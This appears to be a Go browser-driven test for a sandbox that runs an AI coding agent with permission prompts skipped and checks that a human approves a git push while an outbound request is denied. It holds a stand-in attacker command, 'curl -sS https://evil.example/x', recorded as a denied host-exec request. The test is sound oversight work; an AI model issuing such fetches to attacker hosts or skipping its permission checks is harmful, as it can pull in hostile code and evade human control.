//go:build linux

package realtest

import (
	"fmt"
	"os"
	"strings"
	"testing"

	"cloister/cmd/cloister/chromium"
)

// TestPersonInTheWindow is the story answered in a browser. With
// CLOISTER_WINDOW_SHOTS it leaves a strip of pictures there, in order.
func TestPersonInTheWindow(t *testing.T) {
	s := newStory(t)
	b, err := chromium.Start(need(t, "chromium", "chromium"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(b.Close)
	tb := b.Tab(t, nil)
	frames := 0
	frame := func(name string) {
		t.Helper()
		frames++
		if dir := os.Getenv("CLOISTER_WINDOW_SHOTS"); dir != "" {
			tb.Shot(dir, fmt.Sprintf("film-%d-%s", frames, name), "light")
		}
	}
	// row waits for one of a list that has all these texts, and chooses it.
	row := func(texts ...string) {
		t.Helper()
		find := `[...document.querySelectorAll('.row')].find((r) => `
		for i, text := range texts {
			if i > 0 {
				find += " && "
			}
			find += "r.textContent.includes(" + chromium.Quoted(text) + ")"
		}
		tb.Wait(find + ")")
		chromium.Eval[bool](tb, find+").click(), true")
	}
	tb.Navigate(strings.TrimSpace(s.cloister(t.Context(), "guardian", "open").stdout))
	tb.Wait(`location.pathname === '/now' && document.documentElement.dataset.live === 'yes'`)

	ended := make(chan result, 1)
	go func() { ended <- s.run("claude", "-p", askedOfTheAgent, "--dangerously-skip-permissions") }()
	tb.Says("running")
	frame("an-agent-runs")
	tb.Wait(`document.title.startsWith('(1) ')`)
	tb.Press("g", "h")
	tb.Says("npm install")
	tb.Click(`.card`)
	tb.Wait(`document.querySelector('section .verdict.ok') && document.querySelector('.output')`)
	frame("npm-install-ran-by-a-rule")
	tb.Press("g", "a")
	tb.Says("push to " + s.url)
	frame("git-push-is-asked")
	for !chromium.Eval[bool](tb, `Boolean(document.querySelector('.ask .allow:not([disabled])'))`) {
		tb.Press(" ") // what does not fit is allowed only when its end was seen
		tb.Wait(`true`)
	}
	shown := chromium.Eval[string](tb, `[...document.querySelectorAll('.ask dt')].map((d) => d.textContent + ': ' + d.nextElementSibling.textContent).join('\n')`)
	tb.Wait(`(() => { const e = document.querySelector('.ask'); e.since = e.since || performance.now(); return performance.now() - e.since > 700; })()`)
	frame("read-to-its-end")
	tb.Press("a")
	tb.Says("Allowed (once): push to " + s.url)
	frame("allowed-with-one-key")
	res := <-ended
	if got := strings.TrimSpace(res.stdout); res.status != 0 || got != s.messages.last {
		t.Fatalf("claude: status %d, said %q; stderr: %s\n%s", res.status, got, res.stderr, s.journal())
	}
	tb.Press("g", "t")
	row("evil.example", "deny")
	tb.Says("denied")
	frame("the-other-way-is-refused")
	tb.Press("g", "r")
	row("hostexec.request", "curl -sS https://evil.example/x", "deny")
	frame("all-of-it-is-recorded")
	for _, want := range ofThePush {
		if !strings.Contains(shown, want) {
			t.Errorf("the person was not shown %s: %s", want, shown)
		}
	}
	s.check(t)
}
